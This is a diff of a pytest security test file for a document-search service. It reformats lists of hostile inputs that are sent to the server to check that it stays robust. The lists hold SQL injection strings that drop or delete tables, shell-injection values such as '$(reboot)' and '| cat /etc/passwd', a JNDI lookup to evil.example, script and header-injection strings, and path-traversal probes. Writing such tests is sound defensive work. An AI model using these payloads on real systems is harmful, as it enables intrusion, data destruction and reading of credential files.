@@ -1,4 +1,4 @@
-"""Hostile requests, by class, each with its expected answer; the server then still answers, and has no bug to report."""
+"""Hostile requests, by class, each with its expected answer; the server then still answers and has no bug."""
 
 from __future__ import annotations
 
@@ -11,9 +11,9 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from serving import Serving, make_index, story
 
 from neardup.service.tokens import new_token
-from serving import Serving, make_index, story
 
 HEAD = b"Host: 127.0.0.1\r\nAuthorization: Bearer %TOKEN%\r\n"
 JSON = b"Content-Type: application/json\r\n"
@@ -58,8 +58,27 @@ TRAVERSAL: list[Raw] = [
         ("/.git/config", 404),
     )
 ]
-SQL = ["' OR '1'='1", "x'; DROP TABLE documents; --", '" UNION SELECT * FROM bodies --', "1); DELETE FROM state;--", "\\'", "%", "_"]
-SHELL = ["$(reboot)", "`id`", "| cat /etc/passwd", "; ls", "${jndi:ldap://evil.example/a}", "{{7*7}}", "<script>alert(1)</script>", "\x1b]0;owned\x07", "\r\nSet-Cookie: a=b", "%s%s%s%n"]
+SQL = [
+    "' OR '1'='1",
+    "x'; DROP TABLE documents; --",
+    '" UNION SELECT * FROM bodies --',
+    "1); DELETE FROM state;--",
+    "\\'",
+    "%",
+    "_",
+]
+SHELL = [
+    "$(reboot)",
+    "`id`",
+    "| cat /etc/passwd",
+    "; ls",
+    "${jndi:ldap://evil.example/a}",
+    "{{7*7}}",
+    "<script>alert(1)</script>",
+    "\x1b]0;owned\x07",
+    "\r\nSet-Cookie: a=b",
+    "%s%s%s%n",
+]
 INJECTION: list[Raw] = [
     *((f"id {name!r}", post(json.dumps({"id": name, "text": story(1)}).encode(), "/v1/documents"), 200) for name in SQL + SHELL),
     *((f"text {name!r}", post(json.dumps({"text": name}).encode()), 200) for name in SQL + SHELL),
@@ -327,7 +346,9 @@ def test_a_body_that_drips_does_not_hold_a_connection(target: Target) -> None:
     import socket
 
     with socket.create_connection(("127.0.0.1", target.server.port), timeout=10) as connection:
-        head = request("POST /v1/query", "Content-Type: application/json", "Content-Length: 100000", length=False)
+        head = request(
+            "POST /v1/query", "Content-Type: application/json", "Content-Length: 100000", length=False
+        )
         connection.sendall(head.replace(b"%TOKEN%", target.tokens["TOKEN"].encode()))
         begin, answer = time.monotonic(), b""
         connection.settimeout(0.2)
@@ -346,7 +367,10 @@ def test_a_body_that_drips_does_not_hold_a_connection(target: Target) -> None:
 def test_a_body_that_ends_early_changes_nothing(target: Target) -> None:
     body = b'{"id": "half", "text": "half of it"}'
     data = request(
-        "POST /v1/documents", "Content-Type: application/json", f"Content-Length: {len(body) + 9}", length=False
+        "POST /v1/documents",
+        "Content-Type: application/json",
+        f"Content-Length: {len(body) + 9}",
+        length=False,
     )
     import socket
 
